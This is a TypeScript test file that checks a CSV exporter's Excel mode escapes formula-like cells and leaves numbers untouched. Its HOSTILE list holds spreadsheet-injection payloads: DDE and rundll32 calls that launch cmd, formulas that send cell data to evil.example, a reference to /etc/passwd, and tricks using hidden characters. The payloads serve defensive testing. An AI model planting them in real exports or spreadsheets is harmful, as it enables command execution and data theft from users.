import { Readable } from 'node:stream'
import { Client } from 'pg'
import { to as copyTo } from 'pg-copy-streams'
import { afterAll, beforeAll, describe, expect, inject, test } from 'vitest'
import { csv } from '../../src/formats/csv.ts'
import { CSV_DIALECTS, type CsvDialect } from '../../src/formats/format.ts'
import type { Column, Row } from '../../src/report-type/define.ts'
import { oracles, type Oracles } from '../support/oracles.ts'
import { batchesOf, bytesOf } from '../support/rows.ts'

/** What people have put into cells so that a spreadsheet runs it: each of these must be shown and not run. */
const HOSTILE = [
  // Plain formulas, and what they can do.
  '=1+1', '=SUM(A1:A9)', '=A1', '==1+1', '=', '=-1', '=@SUM(1)', '={1;2}', '=1+1+cmd|\' /C calc\'!A0', '=cmd|\'/C calc.exe\'!\'A1\'',
  '=DDE("cmd";"/C calc";"x")', '=MSEXCEL|\'\\..\\..\\Windows\\System32\\cmd.exe /c calc\'!\'\'', '=rundll32|\'URL.dll,OpenURL calc.exe\'!A',
  '=HYPERLINK("http://evil.example/?x="&A1,"Click")', '=HYPERLINK("http://evil.example"&CHAR(34))', '=WEBSERVICE("http://evil.example/"&A1)',
  '=IMPORTXML(CONCAT("http://evil.example/",A1),"//a")', '=IMPORTDATA("http://evil.example")', '=IMAGE("http://evil.example/x.png")',
  '=IF(1,1,1)', '=IFERROR(A1,"x")', '="a"&"b"', '=\'file:///etc/passwd\'#$passwd.A1', '=INDIRECT("A"&1)',
  // The other beginnings of a formula.
  '+1+1', '+cmd|\' /C calc\'!A0', '+49 221 1234', '+', '+-1', '+SUM(1)', '-1+1', '-cmd|\' /C calc\'!A0', '-10 %', '-', '--1', '-2+3+cmd|\' /C calc\'!D2',
  '@SUM(1+1)', '@me', '@', '@HYPERLINK("x")', '@1+1*cmd|\' /C calc\'!A0',
  // Numbers that are text stay text.
  '-12.5', '+1e5', '=1e5',
  // Hidden behind what is not seen, or what CSV itself is made of.
  '\t=1+1', '\tx', '\r=1+1', '\rx', '\n=1+1', ' =1+1', '   @SUM(1)', '\u00a0=1+1', '\u3000=1+1', '\ufeff=1+1', '\r\n=1+1', ' \t -1',
  '=1,2', '="a,""b"""', '=1\n=2', '=1";=2',
  // The wide forms, which spreadsheets of East Asia take for the narrow ones.
  '＝1+1', '＋1', '－1+1', '＠SUM(1)', '\u3000＝1',
] // prettier-ignore
/** What looks like it and is none. */
const HARMLESS = ['a=1', '1-1', 'x@example.com', "'", "'=1", '"=1"', 'é-', '(1)', '%', '#REF!', '.5', '/x', '*', '1+1', ';=1', 'a\n=1', 'a\t=1', '_@', '', ' ', '东京', '|calc'] // prettier-ignore
const NUMBERS: Row[] = [
  [-1, '-12.5', -0.25, '-9223372036854775808', '2026-11-21', true],
  [0, '12.50', 1e21, '0', '-infinity', false],
  [-2147483648, '-0.000000001', -1e-7, '-1', '1999-12-31', null],
]
const COLUMNS: readonly Column[] = [{ name: 'n', type: 'Int' }, { name: 'text', type: 'String' }] // prettier-ignore
const NUMERIC: readonly Column[] = [
  { name: 'i', type: 'Int' }, { name: 'd', type: 'Decimal' }, { name: 'f', type: 'Float' }, { name: 'b', type: 'BigInt' }, { name: 'day', type: 'Date' }, { name: 'flag', type: 'Boolean' },
] // prettier-ignore

let client: Client
let others: Oracles
beforeAll(async () => {
  others = await oracles()
  client = new Client(inject('postgresUrl'))
  await client.connect()
})
afterAll(() => client.end())

/** The two ways to a document: rows that code computed, and the bytes that Postgres sent. */
const WAYS = {
  rows: (texts: readonly string[], csvDialect: CsvDialect) =>
    bytesOf(
      csv.encode(batchesOf([texts.map((text, index) => [0 - index, text])]).batches, {
        columns: COLUMNS,
        csvDialect,
        timeZone: 'UTC',
      }),
    ),
  async copy(texts: readonly string[], csvDialect: CsvDialect) {
    await client.query('drop table if exists cells; create temp table cells (n int, text text)')
    await client.query('insert into cells select -(at - 1), text from unnest($1::text[]) with ordinality u (text, at)', [texts]) // prettier-ignore
    const sent = await bytesOf(client.query(copyTo('copy (select * from cells) to stdout (format csv, header)')))
    return bytesOf(
      csv.fromCopy!(Readable.from([sent], { objectMode: false }), { columns: COLUMNS, csvDialect, timeZone: 'UTC' }),
    )
  },
} as const

test('the list is what it says: sixty and more, all of them different', () => {
  expect(HOSTILE.length).toBeGreaterThanOrEqual(60)
  expect(new Set(HOSTILE).size).toBe(HOSTILE.length)
})

describe.each(Object.keys(WAYS) as (keyof typeof WAYS)[])('from %s', (way) => {
  /** The cells as two parsers read them that are not ours; both must read the same. */
  async function read(texts: readonly string[], csvDialect: CsvDialect): Promise<string[][]> {
    const text = (await WAYS[way](texts, csvDialect)).toString()
    const records = others.csvParse(text)
    expect(others.papaparse(text)).toEqual(records)
    expect(records).toHaveLength(texts.length + 1)
    return records.slice(1)
  }

  test.each(HOSTILE.map((cell) => [JSON.stringify(cell), cell]))(
    'EXCEL shows %s and does not run it',
    async (_, cell) => {
      expect(await read([cell], 'EXCEL')).toEqual([['0', `'${cell}`]])
    },
  )

  test('EXCEL leaves what is none as it is', async () => {
    const cells = await read(HARMLESS, 'EXCEL')
    expect(cells.map(([, text]) => text)).toEqual(HARMLESS)
  })

  test('all together come back: as they were, or behind one apostrophe; the numbers beside them untouched', async () => {
    const texts = [...HOSTILE, ...HARMLESS]
    for (const dialect of CSV_DIALECTS) {
      const cells = await read(texts, dialect)
      const apostrophe = (index: number) => (dialect === 'EXCEL' && index < HOSTILE.length ? "'" : '')
      expect(cells, dialect).toEqual(texts.map((text, index) => [String(-index), apostrophe(index) + text]))
    }
  })
})

test('EXCEL touches no number, date or Boolean', async () => {
  const document = (csvDialect: CsvDialect) =>
    bytesOf(csv.encode(batchesOf([NUMBERS]).batches, { columns: NUMERIC, csvDialect, timeZone: 'UTC' }))
  const cells = others.csvParse((await document('EXCEL')).toString())
  expect(cells.slice(1)).toEqual([
    ['-1', '-12.5', '-0.25', '-9223372036854775808', '2026-11-21', 'true'],
    ['0', '12.50', '1e+21', '0', '-infinity', 'false'],
    ['-2147483648', '-0.000000001', '-1e-07', '-1', '1999-12-31', ''],
  ])
  const copied = await bytesOf(
    client.query(copyTo(`copy (select -1 as i, -12.5 as d, -0.25::float8 as f, -1::bigint as b, date '-infinity' as day, true as flag) to stdout (format csv, header)`)),
  ) // prettier-ignore
  const converted = csv.fromCopy!(Readable.from([copied], { objectMode: false }), { columns: NUMERIC, csvDialect: 'EXCEL', timeZone: 'UTC' }) // prettier-ignore
  expect(others.csvParse((await bytesOf(converted)).toString())[1]).toEqual(['-1', '-12.5', '-0.25', '-1', '-infinity', 'true']) // prettier-ignore
})
